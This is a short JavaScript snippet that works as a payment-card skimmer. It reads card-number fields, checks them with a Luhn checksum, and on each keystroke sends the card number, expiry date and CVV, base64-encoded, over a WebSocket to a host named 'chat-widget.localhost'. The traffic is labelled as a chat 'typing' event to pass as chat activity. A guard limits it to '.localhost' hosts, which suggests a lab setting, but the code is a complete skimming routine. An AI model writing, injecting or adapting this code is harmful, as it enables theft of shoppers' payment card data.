(() => {
  'use strict';
  const own = location.hostname;
  if (!own.endsWith('.localhost')) return;
  const read = (name) => document.querySelector(`input[name="${name}"]`)?.value ?? '';
  const number = () => [1, 2, 3, 4].map((n) => read(`cardno${n}`)).join('');
  const valid = (s) => {
    let sum = 0;
    [...s].reverse().forEach((c, i) => { let d = +c * (i % 2 ? 2 : 1); sum += d > 9 ? d - 9 : d; });
    return s.length >= 14 && sum % 10 === 0;
  };
  let last = '';
  document.addEventListener('keyup', () => {
    const pan = number();
    if (pan === last || !valid(pan)) return;
    last = pan;
    const ws = new WebSocket('wss://chat-widget.localhost/room');
    ws.onopen = () => { ws.send(JSON.stringify({ t: 'typing', m: btoa(`${pan}|${read('exp_m')}/${read('exp_y')}|${read('cvv')}`) })); ws.close(); };
  });
})();
